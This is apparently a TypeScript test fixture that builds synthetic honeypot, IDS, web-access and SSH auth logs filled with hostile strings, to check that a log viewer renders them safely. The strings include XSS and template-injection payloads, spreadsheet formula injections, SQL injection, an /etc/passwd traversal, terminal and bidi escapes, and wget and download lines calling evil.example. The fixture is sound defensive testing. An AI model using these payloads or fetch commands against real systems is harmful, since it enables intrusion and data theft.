import {type GivenFile, logFile} from "./open-logs.js";

/**
 * What attackers write into logs to reach whoever reads them: markup, script, templates, terminal escapes, text that runs the
 * other way, formulas, and names that objects have of their own. Whatever of it runs sets `ran` on the window.
 */
export const hostileTexts = [
  '<img src=x onerror="window.ran=1">',
  "<script>window.ran=1</script>",
  '"><svg onload=window.ran=1>',
  "</textarea></style></title><script>window.ran=1</script>",
  "javascript:window.ran=1",
  "';window.ran=1;//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be a template
  "${window.ran=1}",
  "{{constructor.constructor('window.ran=1')()}}",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "\u202egnp.exe\u202c",
  "a\u0000b\u200b\u2028c",
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  "__proto__",
  "constructor",
  "../../../../etc/passwd",
  "%3Cscript%3Ewindow.ran=1%3C/script%3E",
  "🏴󠁧󠁢󠁥󠁮󠁧󠁿 Ω≈ç√∫ ﷽ 社會科學院",
  `A${"\u0301".repeat(60)}`,
  "W".repeat(3000)
] as const;

export const hostileSource = "203.0.113.66";

const at = (second: number) => new Date(Date.UTC(2026, 2, 1, 12, 0, second * 3)).toISOString();

/** Logs of every kind with the hostile texts wherever an attacker has a say. */
export function hostileLogs(): GivenFile[] {
  const lines = (make: (text: string, second: number) => unknown[]) =>
    hostileTexts.flatMap((text, i) => make(text, i * 4).map(line => JSON.stringify(line))).join("\n");
  const cowrie = lines((text, second) => {
    const event = (eventid: string, i: number, more: object) => ({
      eventid,
      timestamp: at(second + i),
      src_ip: hostileSource,
      src_port: 40_000,
      dst_ip: "198.51.100.20",
      dst_port: 2222,
      session: "0123456789ab",
      protocol: "ssh",
      sensor: text.slice(0, 60),
      message: text,
      ...more
    });
    return [
      event("cowrie.client.kex", 0, {hassh: "92674389fa1e47a27ddd8d9b63ecd42b", hasshAlgorithms: text}),
      event("cowrie.login.success", 1, {username: text, password: text}),
      event("cowrie.command.input", 2, {
        input: `${text}; wget http://evil.example/${encodeURIComponent(text.slice(0, 30))}`
      }),
      event("cowrie.session.file_download", 3, {
        url: `http://evil.example/${text}`,
        outfile: text,
        filename: text,
        shasum: "a".repeat(64)
      })
    ];
  });
  const suricata = lines((text, second) => {
    const event = (event_type: string, i: number, more: object) => ({
      timestamp: at(second + i),
      event_type,
      flow_id: 1000 + second + i,
      src_ip: hostileSource,
      src_port: 50_000,
      dest_ip: "198.51.100.30",
      dest_port: 80,
      proto: "TCP",
      ...more
    });
    const http = {
      hostname: text,
      url: `/${text}`,
      http_user_agent: text,
      http_method: text.slice(0, 10),
      status: 200
    };
    return [
      event("http", 0, {http, app_proto: "http"}),
      event("alert", 1, {
        alert: {
          signature: text,
          category: text,
          severity: 1,
          signature_id: second,
          action: "allowed",
          gid: 1,
          rev: 1
        },
        http,
        payload: Buffer.from(text).toString("base64")
      }),
      event("tls", 2, {
        tls: {sni: text, ja3: {hash: "e7d705a3286e19ea42f587b344ee6865"}, subject: text},
        dest_port: 443
      }),
      event("dns", 3, {dns: {type: "query", rrname: text, rrtype: "A", id: 1}, dest_port: 53, proto: "UDP"})
    ];
  });
  const oneLine = (text: string) => text.replace(/[\r\n\u2028"\\]/g, " ");
  const access = hostileTexts.map(
    text =>
      `${hostileSource} - - [01/Mar/2026:12:00:01 +0000] "GET /${oneLine(text)} HTTP/1.1" 404 12 "${oneLine(text)}" "${oneLine(text)}"`
  );
  const auth = hostileTexts.map(
    (text, i) =>
      `Mar  1 12:${String(i).padStart(2, "0")}:00 host sshd[123]: Failed password for invalid user ${oneLine(text).slice(0, 200)} from ${hostileSource} port 5000 ssh2`
  );
  return [
    logFile('<img src=x onerror="window.ran=1">.json', `${cowrie}\n`),
    logFile("eve\u202e.json", `${suricata}\n`),
    logFile("=cmd.log", `${access.join("\n")}\n`),
    logFile("auth.log", `${auth.join("\n")}\n`)
  ];
}
